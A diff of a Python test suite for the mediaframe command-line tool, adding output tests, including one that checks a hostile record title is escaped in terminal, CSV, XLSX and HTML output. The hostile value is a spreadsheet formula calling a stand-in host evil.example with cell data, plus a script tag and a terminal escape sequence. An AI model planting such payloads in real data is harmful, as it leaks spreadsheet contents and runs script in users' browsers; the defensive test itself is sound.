@@ -91,6 +91,10 @@ def test_search_is_one_page_and_says_how_many_hits_there_are(run):
         (["feed-items"], "entry_id"),
         (["baskets"], "basket_id"),
         (["me", "--table", "collections"], "databox_id"),
+        (["fields"], "databox_id"),
+        (["story-records", "--limit", "3"], "story_databox_id"),
+        (["basket-records"], "basket_id"),
+        (["feed-items", "--extended"], "entry_id"),
     ],
 )
 def test_each_reading_command_shows_its_frame(run, args, first_column):
@@ -107,6 +111,16 @@ def test_me_writes_its_four_tables_to_a_workbook_and_one_to_csv(run, tmp_path):
     one = run("me", "-o", str(tmp_path / "me.csv"))
     assert one.exit_code == 1 and "one table" in one.stderr
     assert run("me", "--table", "statuses", "-o", str(tmp_path / "me.csv")).exit_code == 0
+
+
+def test_extended_records_carry_captions_and_status_bits(run, tmp_path):
+    out = tmp_path / "x.parquet"
+    result = run("records", "--extended", "--base", "1", "-o", str(out))
+    assert result.exit_code == 0, result.stderr
+    columns = set(read_parquet(out).columns)
+    assert {"caption_Title", "status_4"} <= columns
+    only = run("search", "--status", "4:on:1", "--status-only")
+    assert only.exit_code == 2 and "records" in only.stderr
 
 
 def test_an_unknown_extension_is_one_line_and_exit_1(run, tmp_path):
@@ -187,3 +201,24 @@ def test_info_names_folders_profiles_and_hides_the_token(run, emulator, tmp_path
     assert "mediaframe 0." in result.stdout and str(tmp_path / "cache") in result.stdout
     assert f"p: {emulator.base_url}" in result.stdout
     assert "MEDIAFRAME_TOKEN set (hidden)" in result.stdout
+
+
+def test_a_hostile_title_from_the_server_is_neutralised_in_every_output(fresh_emulator, tmp_path):
+    emu = fresh_emulator(records=200, cap=1000)
+    run = runner_for(emu, tmp_path)
+    truth = emu.ground_truth()
+    hostile = '=HYPERLINK("http://evil.example/?"&A1)<script>alert(1)</script>'
+    emu.update_record(int(truth["databox_id"][0]), int(truth["record_id"][0]), title=hostile)
+    emu.update_record(int(truth["databox_id"][1]), int(truth["record_id"][1]), title="\x1b[2Jx")
+    shown = run("records", "--limit", "-1", COLUMNS="400")
+    assert shown.exit_code == 0, shown.stderr
+    assert "\x1b" not in shown.stdout and "\N{REPLACEMENT CHARACTER}[2J" in shown.stdout
+    assert run("records", "-o", str(tmp_path / "r.csv")).exit_code == 0
+    assert "'=HYPERLINK" in (tmp_path / "r.csv").read_text()
+    assert run("records", "-o", str(tmp_path / "r.xlsx")).exit_code == 0
+    sheet = openpyxl.load_workbook(tmp_path / "r.xlsx")["records"]
+    cells = [c for c in sheet["H"] if c.value and str(c.value).startswith("=HYPERLINK")]
+    assert len(cells) == 1 and cells[0].data_type == "s" and cells[0].quotePrefix
+    assert run("records", "-o", str(tmp_path / "r.html")).exit_code == 0
+    page = (tmp_path / "r.html").read_text()
+    assert "<script>alert" not in page and "&lt;script&gt;alert(1)" in page
